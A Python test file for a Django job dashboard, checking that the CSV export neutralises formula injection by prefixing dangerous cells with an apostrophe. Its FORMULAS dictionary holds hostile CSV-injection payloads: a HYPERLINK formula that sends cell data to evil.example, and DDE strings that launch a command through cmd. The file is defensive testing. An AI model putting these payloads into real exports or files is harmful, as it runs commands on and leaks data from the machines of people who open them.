"""The CSV export, through the view, of jobs a spreadsheet would otherwise run as formulas.

The jobs are indexed into a board of this test's own in the live sandbox, found by the real
search, exported by GET /export.csv: every name and company that starts with a formula
character comes out as text (a leading apostrophe), never as a formula (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from hrflow_dash.demo import DEMO_ALGORITHM_KEYS, DEMO_SOURCE_KEYS
from scoring import selectors
from scoring.hrflow.query import JobQuery
from scoring.views import CSV_COLUMNS
from tests.fixtures.sandbox import own_board, point_dashboard_at, settle

pytestmark = [pytest.mark.slow, pytest.mark.django_db]

# What a spreadsheet treats as the start of a formula (and what an attacker would send).
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_board(live_sandbox: Any, settings: Any) -> str:
    board = own_board(live_sandbox, "Formula jobs")
    point_dashboard_at(settings, live_sandbox, board_keys=[board])
    for lead, formula in FORMULAS.items():
        live_sandbox.index_job(
            {
                "board_key": board,
                "reference": f"formula-{uuid.uuid4().hex[:10]}",
                "name": formula,
                "url": "https://example.com/jobs/formula",
                "summary": f"A posting whose company starts with {lead}",
                "skills": [{"name": "Python", "type": "hard", "value": None}],
                "tags": [{"name": "company", "value": formula}],
            }
        )
    settle(live_sandbox, board)
    return board


def test_export_neutralises_formulas_in_name_and_company(formula_board: str) -> None:
    user = get_user_model().objects.create_user("export-alice", password="pw-export-alice-1")
    client = Client()
    client.force_login(user)
    candidate = selectors.profile_search(source_key=DEMO_SOURCE_KEYS[0], name="", limit=1)[0]
    query = JobQuery(
        board_keys=(formula_board,),
        source_key=DEMO_SOURCE_KEYS[0],
        profile_key=candidate.key,
        algorithm_key=DEMO_ALGORITHM_KEYS[0],
    )

    response = client.get("/export.csv?" + query.to_query_string())

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == CSV_COLUMNS
    name_col, company_col = CSV_COLUMNS.index("title"), CSV_COLUMNS.index("company")
    exported = {(row[name_col], row[company_col]) for row in rows[1:]}
    # Every indexed job is there, each cell the original text behind one apostrophe.
    assert exported == {("'" + formula, "'" + formula) for formula in FORMULAS.values()}
